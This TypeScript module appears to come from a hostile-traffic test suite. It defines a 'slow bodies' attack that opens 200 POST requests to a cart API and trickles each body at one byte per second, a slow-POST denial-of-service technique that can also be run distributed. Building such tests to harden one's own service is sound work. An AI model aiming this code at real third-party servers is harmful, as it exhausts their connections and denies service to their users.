import type { HostileAttack } from '../hostile-attack.ts'
import { trickle } from '../hostile-sockets.ts'

const BODIES = 200

export const slowBodies: HostileAttack = {
  name: 'slow bodies',
  does: `sends ${BODIES} bodies of cart lines, a byte a second`,
  alsoDistributed: true,
  prepare: async (target) => () => {
    const head = 'POST /api/cart HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n'
    for (let n = 0; n < BODIES; n++) trickle(target, `${head}{`, ' ')
  },
}
